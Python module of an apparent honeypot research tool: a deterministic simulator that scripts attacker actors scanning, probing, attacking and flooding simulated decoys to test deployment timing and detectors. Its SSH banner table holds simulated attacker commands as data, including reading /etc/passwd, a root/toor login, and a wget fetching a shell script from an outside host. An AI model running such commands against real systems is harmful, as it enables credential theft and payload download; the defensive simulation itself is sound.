"""Deterministic discrete-event attacker simulator.

Scenario scripts are plain text, one directive or action per line::

    # comments run to end of line
    name ctf_small
    seed 7
    duration 7200
    pool first=172.26.233.4 spacing=20 count=7      # or: pool 172.26.233.4 172.26.233.40 ...
    set deploy_latency=6 background_rate=0.4
    actor A ip=10.13.37.11 style=sqli
    t=12.0 actor=A SCAN 172.26.233.0/24 ports=22,80 rate=1.5
    actor=A HTTP_ATTACK 172.26.233.44 class=SQLI count=5

An action with ``t=`` starts at that time; an action without it starts when
the same actor's previous action (including any lingering it caused) ends.

Attackers linger on decoys that answer them. How long is a modelling
assumption, not a measurement: ``linger_mean * U(0.5, 1.5) * exp(-age / stale_tau)``
where ``age`` is how long the decoy had already been running when the attacker
found it. Long-running decoys accumulate tell-tale state and are abandoned
sooner; freshly deployed ones hold attention longer.
"""

from __future__ import annotations

import heapq
import ipaddress
import math
import random
import shlex
from dataclasses import dataclass, field, replace
from importlib import resources
from pathlib import Path

from .backend import SimulatedBackend
from .engine import Engine
from .orchestrator import DEFAULT_CATALOG, ReservedIpPool
from .packets import Packet, Proto, capture_bytes
from .storage import EventLog, Vault
from .traffic import (
    SAMPLE_SCRIPTS, Background, attack_request, beacon, benign_request, default_lan, flood, http_packet,
    q, syn, tcp,
)

SIM_EPOCH_US = 1_600_000_000 * 1_000_000
VERBS = ("SCAN", "HTTP_ATTACK", "SSH_PROBE", "SMTP_PROBE", "MODBUS_PROBE", "PROBE", "DROP_FILE", "FLOOD",
         "BEACON", "IDLE")
PROBE_PORTS = {"SSH_PROBE": 22, "SMTP_PROBE": 25, "MODBUS_PROBE": 502}
STYLES = ("benign", "sqli", "xss", "osc")


class ScriptValidation(ValueError):
    pass


@dataclass
class SimSettings:
    deploy_latency: float = 0.0
    idle_timeout: float = 900.0
    deploy_ahead: bool = True
    linger_mean: float = 1800.0
    stale_tau: float = 1800.0
    gap_lo: float = 5.0
    gap_hi: float = 120.0
    retry_after: float = 10.0
    retries: int = 30
    attack_mix: float = 0.3
    background_rate: float = 0.0


_SETTING_TYPES = {k: type(v) for k, v in vars(SimSettings()).items()}


@dataclass(frozen=True)
class Actor:
    name: str
    ip: str
    style: str = "benign"
    engage: bool = True


@dataclass(frozen=True)
class Action:
    line: int
    actor: str
    verb: str
    args: tuple[str, ...]
    opts: tuple[tuple[str, str], ...]
    t: float | None = None

    def opt(self, key, default=None, cast=str):
        for k, v in self.opts:
            if k == key:
                try:
                    return cast(v)
                except ValueError as exc:
                    raise ScriptValidation(f"line {self.line}: bad value for {key}: {v!r}") from exc
        return default


@dataclass
class ScenarioScript:
    name: str
    seed: int
    duration: float
    actors: dict[str, Actor]
    actions: list[Action]
    settings: SimSettings = field(default_factory=SimSettings)
    pool: ReservedIpPool | None = None


def _bool(v: str) -> bool:
    if v.lower() in ("1", "true", "yes", "on"):
        return True
    if v.lower() in ("0", "false", "no", "off"):
        return False
    raise ValueError(v)


def _kv(tokens, line):
    out = {}
    for tok in tokens:
        if "=" not in tok:
            raise ScriptValidation(f"line {line}: expected key=value, got {tok!r}")
        k, v = tok.split("=", 1)
        out[k] = v
    return out


def _ip(v: str, line: int) -> str:
    try:
        return str(ipaddress.IPv4Address(v))
    except ValueError as exc:
        raise ScriptValidation(f"line {line}: bad IPv4 address {v!r}") from exc


def parse_script(text: str, name: str = "") -> ScenarioScript:
    seed, duration = 0, None
    actors: dict[str, Actor] = {}
    actions: list[Action] = []
    settings = SimSettings()
    pool = None
    for lineno, raw in enumerate(text.splitlines(), 1):
        try:
            toks = shlex.split(raw, comments=True)
        except ValueError as exc:
            raise ScriptValidation(f"line {lineno}: {exc}") from exc
        if not toks:
            continue
        head = toks[0]
        try:
            if head == "name":
                name = toks[1]
            elif head == "seed":
                seed = int(toks[1])
            elif head == "duration":
                duration = float(toks[1])
            elif head == "pool":
                if "=" in toks[1]:
                    kv = _kv(toks[1:], lineno)
                    pool = ReservedIpPool.evenly_spaced(kv["first"], int(kv.get("spacing", 20)),
                                                        int(kv.get("count", 7)), kv.get("subnet"))
                else:
                    pool = ReservedIpPool(tuple(_ip(t, lineno) for t in toks[1:]))
            elif head == "set":
                for k, v in _kv(toks[1:], lineno).items():
                    if k not in _SETTING_TYPES:
                        raise ScriptValidation(f"line {lineno}: unknown setting {k!r}")
                    kind = _SETTING_TYPES[k]
                    setattr(settings, k, _bool(v) if kind is bool else kind(v))
            elif head == "actor":
                kv = _kv(toks[2:], lineno)
                if "ip" not in kv:
                    raise ScriptValidation(f"line {lineno}: actor {toks[1]} needs ip=")
                style = kv.get("style", "benign").lower()
                if style not in STYLES:
                    raise ScriptValidation(f"line {lineno}: unknown style {style!r}")
                actors[toks[1]] = Actor(toks[1], _ip(kv["ip"], lineno), style, _bool(kv.get("engage", "1")))
            else:
                actions.append(_parse_action(toks, lineno))
        except (IndexError, KeyError, ValueError) as exc:
            if isinstance(exc, ScriptValidation):
                raise
            raise ScriptValidation(f"line {lineno}: cannot parse {raw.strip()!r} ({exc})") from exc
    if duration is None or duration <= 0:
        raise ScriptValidation("script needs a positive duration")
    for a in actions:
        if a.actor not in actors:
            raise ScriptValidation(f"line {a.line}: undeclared actor {a.actor!r}")
        if a.t is not None and not 0 <= a.t <= duration:
            raise ScriptValidation(f"line {a.line}: t={a.t} outside 0..{duration}")
    return ScenarioScript(name or "scenario", seed, duration, actors, actions, settings, pool)


_OPT_TYPES = {"rate": float, "port": int, "retries": int, "count": int, "interval": float, "bytes": int,
              "pps": float, "duration": float, "period": float, "size": int, "until": float, "engage": _bool}


def _parse_action(toks, lineno) -> Action:
    t = None
    actor = None
    rest = list(toks)
    while rest and "=" in rest[0] and rest[0].split("=", 1)[0] in ("t", "actor"):
        k, v = rest.pop(0).split("=", 1)
        if k == "t":
            t = float(v)
        else:
            actor = v
    if actor is None or not rest:
        raise ScriptValidation(f"line {lineno}: action needs actor= and a verb")
    verb = rest[0].upper()
    if verb not in VERBS:
        raise ScriptValidation(f"line {lineno}: unknown action {rest[0]!r}")
    args = tuple(x for x in rest[1:] if "=" not in x)
    opts = tuple(sorted(_kv([x for x in rest[1:] if "=" in x], lineno).items()))
    need = 0 if verb == "IDLE" else 1
    if verb == "IDLE" and not args:
        raise ScriptValidation(f"line {lineno}: IDLE needs a duration")
    if len(args) < need:
        raise ScriptValidation(f"line {lineno}: {verb} needs a target")
    action = Action(lineno, actor, verb, args, opts, t)
    for key, cast in _OPT_TYPES.items():
        action.opt(key, None, cast)
    if action.opt("ports") is not None:
        action.opt("ports", None, lambda v: [int(x) for x in v.split(",")])
    if action.opt("proto", "udp").lower() not in ("udp", "tcp"):
        raise ScriptValidation(f"line {lineno}: proto must be udp or tcp")
    if verb == "HTTP_ATTACK":
        cls = action.opt("class", "SQLI").upper()
        if cls not in ("SQLI", "XSS", "OSC", "BENIGN"):
            raise ScriptValidation(f"line {lineno}: unknown payload class {cls}")
    if verb == "DROP_FILE" and action.opt("sample") not in (None, *SAMPLE_SCRIPTS):
        raise ScriptValidation(f"line {lineno}: unknown sample {action.opt('sample')!r}")
    return action


# -- bundled scripts ---------------------------------------------------------


def bundled_names() -> list[str]:
    root = resources.files("soar") / "data" / "scenarios"
    return sorted(p.name[:-4] for p in root.iterdir() if p.name.endswith(".scn"))


def load_script(name_or_path: str) -> ScenarioScript:
    """A bundled scenario by name, or a script file by path."""
    path = Path(name_or_path)
    if path.is_file():
        return parse_script(path.read_text(), path.stem)
    res = resources.files("soar") / "data" / "scenarios" / f"{name_or_path}.scn"
    if not res.is_file():
        raise ScriptValidation(f"no scenario file or bundled scenario named {name_or_path!r}")
    return parse_script(res.read_text(), name_or_path)


# -- race arithmetic ---------------------------------------------------------


@dataclass(frozen=True)
class RaceVerdict:
    win: bool
    margin: float

    @property
    def label(self) -> str:
        return "WIN" if self.win else "LOSE"


def race_check(scan_rate: float, spacing: float, deploy_latency: float) -> RaceVerdict:
    """Does a decoy ``spacing`` hosts ahead come up before a scan at ``scan_rate`` s/host reaches it?"""
    if scan_rate <= 0 or spacing <= 0 or deploy_latency < 0:
        raise ValueError("scan rate and spacing must be positive, latency non-negative")
    budget = spacing * scan_rate
    return RaceVerdict(budget > deploy_latency, budget - deploy_latency)


# -- simulator ---------------------------------------------------------------


def _targets(spec: str, line: int) -> list[str]:
    if "/" in spec:
        return [str(h) for h in ipaddress.IPv4Network(spec, strict=False).hosts()]
    if "-" in spec:
        lo, hi = (ipaddress.IPv4Address(x) for x in spec.split("-", 1))
        return [str(ipaddress.IPv4Address(k)) for k in range(int(lo), int(hi) + 1)]
    return [_ip(spec, line)]


_SERVICE_BANNERS = {
    22: [b"SSH-2.0-OpenSSH_8.2p1\r\n", b"\x00\x00\x01\x0c\x0a\x14", b"root\x00toor", b"uname -a\n", b"ls -la\n",
         b"cat /etc/passwd\n", b"wget http://198.51.100.7/x.sh\n"],
    25: [b"EHLO mail.example\r\n", b"MAIL FROM:<a@example.org>\r\n", b"RCPT TO:<admin@corp.local>\r\n",
         b"DATA\r\n", b"VRFY root\r\n"],
    502: [b"\x00\x01\x00\x00\x00\x06\x01\x03\x00\x00\x00\x0a", b"\x00\x02\x00\x00\x00\x06\x01\x06\x00\x01\x00\x03",
          b"\x00\x03\x00\x00\x00\x06\x01\x01\x00\x00\x00\x10"],
    3306: [b"\x0a5.7.33\x00", b"\x21\x00\x00\x01\x03SELECT @@version", b"\x0f\x00\x00\x00\x03show databases"],
}


class Simulator:
    """Runs scripted actors against an :class:`Engine` in virtual time."""

    def __init__(self, script: ScenarioScript, engine: Engine, pool: ReservedIpPool):
        self.script = script
        self.engine = engine
        self.pool = pool
        self.s = script.settings
        self.packets: list[Packet] = []
        self._heap: list = []
        self._seq = 0
        self.now = 0.0
        self.rngs = {name: random.Random(f"{script.seed}:{name}") for name in script.actors}
        self.found: dict[str, list[tuple[str, int]]] = {name: [] for name in script.actors}

    # scheduling
    def _push(self, t: float, gen) -> None:
        if t > self.script.duration:
            return
        heapq.heappush(self._heap, (q(t), self._seq, gen))
        self._seq += 1

    def spawn(self, t: float, gen) -> None:
        self._push(t, gen)

    def send(self, p: Packet) -> None:
        if p.ts > self.script.duration:
            return
        self.engine.process(p)
        self.packets.append(p)

    def run(self) -> None:
        self.engine.start(0.0)
        for actor in self.script.actors.values():
            for chain in self._chains(actor):
                self.spawn(chain[0].t or 0.0, self._run_chain(actor, chain))
        if self.s.background_rate > 0:
            self.spawn(0.0, self._background())
        while self._heap:
            t, _, gen = heapq.heappop(self._heap)
            self.now = t
            try:
                nxt = next(gen)
            except StopIteration:
                continue
            self._push(max(q(nxt), t), gen)
        self.engine.finish(self.script.duration)

    def _chains(self, actor: Actor) -> list[list[Action]]:
        chains: list[list[Action]] = []
        for a in self.script.actions:
            if a.actor != actor.name:
                continue
            if a.t is not None or not chains:
                chains.append([a])
            else:
                chains[-1].append(a)
        return chains

    def _run_chain(self, actor: Actor, chain: list[Action]):
        for action in chain:
            yield from getattr(self, "_do_" + action.verb.lower())(actor, action)

    # behaviour primitives
    def _responder(self, ip, port):
        return self.engine.responder(ip, port, self.now)

    def _target(self, actor, a) -> str | None:
        """Literal address, or ``@PORT`` for the latest decoy this actor saw answering on PORT."""
        spec = a.args[0]
        if not spec.startswith("@"):
            return _ip(spec, a.line)
        port = int(spec[1:])
        seen = [ip for ip, p in self.found[actor.name] if p == port]
        return seen[-1] if seen else None

    def _discovered(self, actor, ip, port) -> None:
        if (ip, port) in self.found[actor.name]:
            self.found[actor.name].remove((ip, port))
        self.found[actor.name].append((ip, port))

    def _do_scan(self, actor, a):
        rng = self.rngs[actor.name]
        targets = _targets(a.args[0], a.line)
        ports = [int(x) for x in a.opt("ports", "22,80").split(",")]
        rate = a.opt("rate", 1.5, float)
        engage = a.opt("engage", actor.engage, _bool)
        sport = rng.randint(32768, 60999)
        t0 = self.now
        found = []
        for h, dst in enumerate(targets):
            for k, port in enumerate(ports):
                yield t0 + h * rate + k * rate / len(ports)
                self.send(syn(self.now, actor.ip, dst, sport, port))
                if self.pool.contains(dst) and self._responder(dst, port) is not None:
                    found.append((dst, port))
                    self._discovered(actor, dst, port)
        if engage:
            for dst, port in found:
                yield from self._engage(actor, dst, port)

    def _do_probe(self, actor, a, port=None):
        rng = self.rngs[actor.name]
        target = self._target(actor, a)
        port = port or a.opt("port", None, int)
        if port is None:
            raise ScriptValidation(f"line {a.line}: PROBE needs port=")
        if target is None:
            return
        retries = a.opt("retries", self.s.retries, int)
        engage = a.opt("engage", actor.engage, _bool)
        for attempt in range(retries + 1):
            sport = rng.randint(32768, 60999)
            self.send(syn(self.now, actor.ip, target, sport, port))
            if self._responder(target, port) is not None:
                self._discovered(actor, target, port)
                self.send(self._interaction(actor, target, port, sport, first=True))
                if engage:
                    yield from self._engage(actor, target, port)
                return
            if attempt < retries:
                yield self.now + self.s.retry_after

    def _do_ssh_probe(self, actor, a):
        yield from self._do_probe(actor, a, 22)

    def _do_smtp_probe(self, actor, a):
        yield from self._do_probe(actor, a, 25)

    def _do_modbus_probe(self, actor, a):
        yield from self._do_probe(actor, a, 502)

    def _do_http_attack(self, actor, a):
        rng = self.rngs[actor.name]
        target = self._target(actor, a)
        if target is None:
            return
        cls = a.opt("class", "SQLI").upper()
        count = a.opt("count", 1, int)
        port = a.opt("port", 80, int)
        interval = a.opt("interval", 5.0, float)
        retries = a.opt("retries", self.s.retries, int)
        sport = rng.randint(32768, 60999)
        sent = misses = 0
        while sent < count:
            if self._responder(target, port) is None:
                self.send(syn(self.now, actor.ip, target, sport, port))
                misses += 1
                if misses > retries:
                    return
                yield self.now + self.s.retry_after
                continue
            raw = benign_request(rng) if cls == "BENIGN" else attack_request(rng, cls)
            self.send(http_packet(self.now, actor.ip, target, sport, raw, port))
            sent += 1
            if sent < count:
                yield self.now + interval

    def _do_drop_file(self, actor, a):
        rng = self.rngs[actor.name]
        target = self._target(actor, a)
        if target is None:
            return
        sample = a.opt("sample")
        if sample:
            data = SAMPLE_SCRIPTS[sample]
        else:
            data = rng.randbytes(a.opt("bytes", 256, int))
        path = a.opt("path", f"/tmp/{sample or 'payload'}.sh")
        retries = a.opt("retries", self.s.retries, int)
        for attempt in range(retries + 1):
            inst = self._responder(target, None)
            if inst is not None:
                sport = rng.randint(32768, 60999)
                self.send(tcp(self.now, actor.ip, target, sport, inst.template.port, data[:1400]))
                self.engine.plant_file(target, path, data, self.now)
                return
            if attempt < retries:
                yield self.now + self.s.retry_after

    def _do_flood(self, actor, a):
        rng = self.rngs[actor.name]
        target = self._target(actor, a)
        if target is None:
            return
        pps = a.opt("pps", 1000.0, float)
        seconds = a.opt("duration", 1.0, float)
        proto = {"udp": Proto.UDP, "tcp": Proto.TCP}[a.opt("proto", "udp").lower()]
        for p in flood(rng, self.now, target, a.opt("port", 80, int), int(pps * seconds), 1.0 / pps, proto):
            yield p.ts
            self.send(p)

    def _do_beacon(self, actor, a):
        rng = self.rngs[actor.name]
        host, _, port = a.args[0].partition(":")
        dst = _ip(host, a.line)
        period = a.opt("period", 30.0, float)
        size = a.opt("size", 120, int)
        until = a.opt("until", self.script.duration, float)
        count = a.opt("count", int((until - self.now) // period) + 1, int)
        for p in beacon(self.now, actor.ip, dst, int(port or 443), rng.randint(32768, 60999), period, size, count):
            yield p.ts
            self.send(p)

    def _do_idle(self, actor, a):
        yield self.now + float(a.args[0])

    def _interaction(self, actor, dst, port, sport, first=False) -> Packet:
        rng = self.rngs[actor.name]
        if port in (80, 8080):
            if actor.style != "benign" and not first and rng.random() < self.s.attack_mix:
                raw = attack_request(rng, actor.style.upper())
            else:
                raw = benign_request(rng)
            return http_packet(self.now, actor.ip, dst, sport, raw, port)
        banners = _SERVICE_BANNERS.get(port, [b"\x00" * 16])
        payload = banners[0] if first else rng.choice(banners)
        return tcp(self.now, actor.ip, dst, sport, port, payload)

    def _engage(self, actor, dst, port):
        inst = self._responder(dst, port)
        if inst is None:
            return
        rng = self.rngs[actor.name]
        age = self.now - inst.deployed_at
        linger = self.s.linger_mean * rng.uniform(0.5, 1.5) * math.exp(-age / self.s.stale_tau)
        end = min(self.now + linger, self.script.duration)
        sport = rng.randint(32768, 60999)
        self.send(self._interaction(actor, dst, port, sport, first=True))
        while True:
            t = q(self.now + rng.uniform(self.s.gap_lo, self.s.gap_hi))
            if t > end:
                return
            yield t
            if self._responder(dst, port) is None:
                return
            self.send(self._interaction(actor, dst, port, sport))

    def _background(self):
        rng = random.Random(f"{self.script.seed}:background")
        hosts, servers = default_lan(reserved=set(self.pool.ips))
        bg = Background(hosts, servers, rng)
        pending: list[Packet] = []
        t = 0.0
        while t < self.script.duration:
            t += rng.expovariate(self.s.background_rate)
            pending.extend(bg.session(t))
        pending.sort(key=lambda p: p.ts)
        for p in pending:
            if p.ts > self.script.duration:
                return
            yield p.ts
            self.send(p)


# -- runner ------------------------------------------------------------------


@dataclass
class ScenarioRun:
    script: ScenarioScript
    engine: Engine
    packets: list[Packet]
    static: bool

    @property
    def log(self) -> EventLog:
        return self.engine.log

    @property
    def events(self):
        return self.engine.log.events()

    @property
    def pool(self) -> ReservedIpPool:
        return self.engine.pool

    def capture(self) -> bytes:
        return capture_bytes(self.packets, SIM_EPOCH_US)

    def report(self, top: int = 10, gap: float = 300.0):
        from .report import build_report
        return build_report(self.events, self.script.duration, self.engine.catalog, name=self.script.name,
                            mode="static" if self.static else "dynamic", gap=gap, top=top,
                            pool=self.engine.pool)


def default_pool() -> ReservedIpPool:
    return ReservedIpPool.evenly_spaced("172.26.233.4", 20, 7, "172.26.233.0/24")


def run_scenario(script: ScenarioScript, *, static: bool = False, seed: int | None = None,
                 deploy_ahead: bool | None = None, deploy_latency: float | None = None,
                 models=None, log_path=None, vault_dir=None, pool: ReservedIpPool | None = None,
                 catalog=DEFAULT_CATALOG, detectors: dict[str, bool] | None = None) -> ScenarioRun:
    """Drive the full engine with a script on the simulated backend."""
    from .models import load_default_models

    if seed is not None:
        script = replace(script, seed=seed)
    settings = replace(script.settings)
    if deploy_ahead is not None:
        settings.deploy_ahead = deploy_ahead
    if deploy_latency is not None:
        settings.deploy_latency = deploy_latency
    script = replace(script, settings=settings)
    pool = pool or script.pool or default_pool()
    ids, ddos_model, botnet_model = models if models is not None else load_default_models()
    on = {"http_ids": True, "ddos": True, "botnet": True, **(detectors or {})}
    vault = Vault(vault_dir)
    engine = Engine(
        pool, catalog, settings.idle_timeout, settings.deploy_ahead,
        backend=SimulatedBackend(settings.deploy_latency, vault), log=EventLog(log_path), vault=vault,
        ids=ids if on["http_ids"] else None, ddos_model=ddos_model if on["ddos"] else None,
        botnet_model=botnet_model if on["botnet"] else None, static=static)
    sim = Simulator(script, engine, pool)
    sim.run()
    engine.log.close()
    return ScenarioRun(script, engine, sim.packets, static)
